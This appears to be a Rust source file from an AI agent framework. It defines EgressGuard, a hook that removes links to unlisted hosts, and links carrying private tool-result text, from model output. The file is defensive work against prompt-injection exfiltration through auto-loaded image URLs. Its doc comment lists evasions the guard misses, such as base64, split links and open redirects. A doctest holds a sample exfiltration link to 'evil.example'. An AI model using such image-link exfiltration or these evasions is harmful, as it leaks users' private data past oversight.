//! The hook that removes links to hosts that are not listed, and those that carry private text.

use std::fmt;
use std::sync::Arc;

use hooks_agent_core::__forward_hook as forward_hook;
use hooks_agent_core::call::{CallContext, Foreign, ForeignGuard};
use hooks_agent_core::error::TextBlocked;
use hooks_agent_core::event::{EventKind, EventMask, Flow, HookEvent};
use hooks_agent_core::hook::{AgentHook, Rewrite};
use hooks_core::HookResult;

use crate::egress::guarded::Guarded;
use crate::egress::links::Links;
use crate::expression::HostPattern;
use crate::rule::check_globs;

/// Removes links to hosts that are not listed from what the model says, and links to listed hosts that carry text of
/// private results: a page that shows an answer loads its images at once, and their URLs carry whatever the model was
/// talked into writing there.
///
/// It finds them in plain text, Markdown, HTML and CSS alike: `https://host`, also without slashes, `www.host`,
/// and `//host` where a page takes it for one, as in `](//host)` or `src="//host"`. Entities of HTML, tabs and
/// newlines in a URL, backslashes, escapes of CSS and JSON, upper case, users, ports and other spellings of a host are
/// undone, as browsers do; where programs differ in what they make of a link, it is removed. Only the URL is replaced,
/// by `about:blank#removed`; the text around it stays. In a stream, a URL is held back until it has ended, up to 2 KiB
/// of it, over which it is replaced, and every cut of the stream into chunks gives the same text. A URL to a listed host
/// is held back once a private result was read.
///
/// # Private text
/// The results of the tools of [`private_data`](Self::private_data) are private: all that stand in the thread, or stood
/// there and were summarized, and in the threads of the agents that it works for. The answer of a sub-agent that has
/// read something private is private too, as are passages and memories if their
/// [tool](hooks_agent_core::call::Door::tool) is one of these. A link carries private text if there is in it, behind
/// its host, or in what stands for the `*` of a listed host:
///
/// - a word of at least 8 letters, or of at least 6 letters and digits with a digit;
/// - joined words, as `ada@corp.example`, or of at least 6 letters and digits with both, as `BX-4471`;
/// - a number in groups of at least 9 letters and digits in all;
/// - a phrase of at least 4 words and 16 letters; 6 characters in a script without blanks.
///
/// Letters and digits alone are compared, in lower case, with entities, escapes and `%41` undone: it makes no difference
/// how words are joined, or what stands before and behind. A link ends at a blank, and with the quotes, the `<>` or the
/// brackets of Markdown or CSS that it stands in; in an attribute, blanks do not end it. Other text that adjoins it is
/// part of it. These are not private:
///
/// - what the user says, in any message of the outermost thread as memory has it; and words of which addresses are made, as
///   `documents`;
/// - a link, and its host, that stands whole in a message and carries nothing that was private when it came. The links of
///   a private result may be repeated therefore, and one that a tool only echoes may not.
///
/// Where there is more than 1 MiB of private text, or what is kept with the thread cannot be read, a link may carry
/// nothing but its host.
///
/// It does not find what is not written as it is: in base64, with other letters, split over several links, or behind an
/// open redirect of a listed host; nor shorter text, what a choice among known links says, and the words of pictures. An
/// identifier of a private result is private: name tools whose links the model makes of such only where their
/// results have the links.
///
/// | setting | default |
/// |---|---|
/// | the hosts: `api.example`, or all below a domain, `*.corp.example` | required; none removes every link |
/// | [`private_data`](Self::private_data): globs of tools | no tools |
/// | [`output`](Self::output): answers, summaries and thoughts | yes |
/// | [`tool_results`](Self::tool_results), for front ends that show them | no: the model reads pages by their links |
/// | [`tool_arguments`](Self::tool_arguments), for front ends that show them | no: what tools may reach is for [`Rules`](crate::Rules) |
///
/// Its priority is 10, with the hooks that redact. It is inherited by sub-agents. Digests of what the user says, and
/// which results are private, are kept with the thread, as the
/// [thread value](hooks_agent_core::call::CallContext::thread_value) `egress_guard`.
///
/// ```
/// use hooks_agent::builtin::guard::EgressGuard;
/// use hooks_agent::prelude::*;
///
/// # futures::executor::block_on(async {
/// let model = ScriptedModel::new("fixed", |_| "![x](https://evil.example/?q=code-1234) and https://wiki.corp.example");
/// let guard = EgressGuard::new(["*.corp.example"])?;
/// let agent = ReActAgent::builder("assistant").model(model).hook(guard).build()?;
/// assert_eq!(
///     agent.call("Hello").await?.text(),
///     "![x](about:blank#removed) and https://wiki.corp.example"
/// );
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// # }).unwrap();
/// ```
///
/// With private data:
///
/// ```
/// use hooks_agent::builtin::guard::EgressGuard;
/// use hooks_agent::prelude::*;
/// use serde_json::{Value, json};
///
/// # futures::executor::block_on(async {
/// let read = FunctionTool::new("read_mail", "Reads mail.", async |_: Value| "The code is BX-4471.");
/// // `model` reads the mail, and answers.
/// # let model = ScriptedModel::new("script", |request| -> ScriptedAnswer {
/// #     match request.messages.last().is_some_and(|msg| msg.role == Role::Tool) {
/// #         true => "![x](https://wiki.corp.example/bx4471.png) and https://wiki.corp.example/help".into(),
/// #         false => ToolUse::new("1", "read_mail", json!({})).into(),
/// #     }
/// # });
/// let guard = EgressGuard::new(["*.corp.example"])?.private_data(["read_*"])?;
/// let agent = ReActAgent::builder("assistant").model(model).tool(read).hook(guard).build()?;
/// assert_eq!(
///     agent.call("What is new?").await?.text(),
///     "![x](about:blank#removed) and https://wiki.corp.example/help"
/// );
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// # }).unwrap();
/// ```
#[derive(Clone)]
#[must_use = "an agent runs it if it is added to its builder"]
pub struct EgressGuard {
    hosts: Arc<[HostPattern]>,
    /// What is private, if tools are.
    guarded: Option<Arc<Guarded>>,
    rewrite: Rewrite,
}

/// Why a guard cannot be made.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum EgressError {
    /// One of the hosts is none.
    #[error("{0}")]
    Host(String),
    /// One of the globs of tools is none.
    #[error("{why}")]
    Tool {
        /// Its place among the globs.
        index: usize,
        /// What is wrong with it.
        why: String,
    },
}

impl EgressGuard {
    /// Creates a guard that lets links to these hosts pass.
    ///
    /// # Errors
    /// [`EgressError::Host`] for a text that is no host, and no domain such as `*.corp.example`.
    pub fn new(hosts: impl IntoIterator<Item = impl AsRef<str>>) -> Result<Self, EgressError> {
        let hosts: Result<Vec<_>, _> =
            hosts.into_iter().map(|host| HostPattern::new(host.as_ref())).collect();
        let hosts: Arc<[_]> = hosts.map_err(EgressError::Host)?.into();
        let rewrite = Rewrite::from(Links::new(hosts.clone(), None).rewriter(&[]));
        Ok(Self { hosts, guarded: None, rewrite })
    }

    /// Sets the tools that return data which others may not read, by globs of their names, as
    /// `RuleOfTwo::private_data` does: a link to a listed host must not carry text of their results. Globs after `!`
    /// take names out. No globs leave the guard as it is.
    ///
    /// # Errors
    /// [`EgressError::Tool`] for a text that is no glob of names.
    pub fn private_data(
        mut self,
        tools: impl IntoIterator<Item = impl Into<String>>,
    ) -> Result<Self, EgressError> {
        let tools: Vec<String> = tools.into_iter().map(Into::into).collect();
        if tools.is_empty() {
            return Ok(self);
        }
        let with_server = tools.iter().position(|it| it.contains("::"));
        let of_names = with_server.map(|index| {
            (index, "expected a glob of names: a result does not tell its server".to_owned())
        });
        let globs = of_names.map_or_else(|| check_globs(&tools), Err);
        let globs = globs.map_err(|(index, why)| EgressError::Tool { index, why })?;
        let guarded = Arc::new(Guarded { hosts: self.hosts.clone(), tools: globs });
        self.guarded = Some(guarded.clone());
        self.rewrite = self.rewrite.with_rewriter_per_call(move |cx| {
            Links::new(guarded.hosts.clone(), guarded.private(cx)).rewriter(guarded.tools.texts())
        });
        Ok(self)
    }

    /// Sets whether answers, summaries and thoughts are searched.
    pub fn output(mut self, search: bool) -> Self {
        self.rewrite = self.rewrite.output(search);
        self
    }

    /// Sets whether results, errors and progress of tools are searched.
    pub fn tool_results(mut self, search: bool) -> Self {
        self.rewrite = self.rewrite.tool_results(search);
        self
    }

    /// Sets whether arguments of tool calls are searched.
    pub fn tool_arguments(mut self, search: bool) -> Self {
        self.rewrite = self.rewrite.tool_arguments(search);
        self
    }
}

impl AgentHook for EgressGuard {
    forward_hook! {
        self => AgentHook, &self.rewrite;
        priority sync_events answers around answers_around inherit always role around_model_call around_tool_call
    }

    fn events(&self) -> EventMask {
        let noted = EventMask::of(&[EventKind::PreCall, EventKind::PostActing]);
        let noted = if self.guarded.is_some() { noted } else { EventMask::NONE };
        self.rewrite.events() | noted
    }

    fn foreign_guard(&self) -> Option<Arc<dyn ForeignGuard>> {
        let rewrite = self.rewrite.foreign_guard();
        match &self.guarded {
            Some(guarded) => Some(Arc::new(Noting { guarded: guarded.clone(), rewrite })),
            None => rewrite,
        }
    }

    fn on_event_now(&self, event: &mut HookEvent<'_>) -> HookResult<Flow> {
        if let Some(guarded) = &self.guarded {
            guarded.note(event);
        }
        if self.rewrite.events().contains(event.kind()) {
            self.rewrite.on_event_now(event)
        } else {
            Ok(Flow::Continue)
        }
    }
}

/// Notes foreign text before it is rewritten.
struct Noting {
    guarded: Arc<Guarded>,
    rewrite: Option<Arc<dyn ForeignGuard>>,
}

impl ForeignGuard for Noting {
    fn screen(&self, cx: &CallContext, foreign: &mut Foreign<'_>) -> Result<(), TextBlocked> {
        self.guarded.note_foreign(cx, foreign);
        self.rewrite.as_ref().map_or(Ok(()), |rewrite| rewrite.screen(cx, foreign))
    }
}

impl fmt::Debug for EgressGuard {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("EgressGuard")
            .field("hosts", &self.hosts)
            .field("private", &self.guarded.as_ref().map(|it| it.tools.texts()))
            .field("rewrite", &self.rewrite)
            .finish()
    }
}
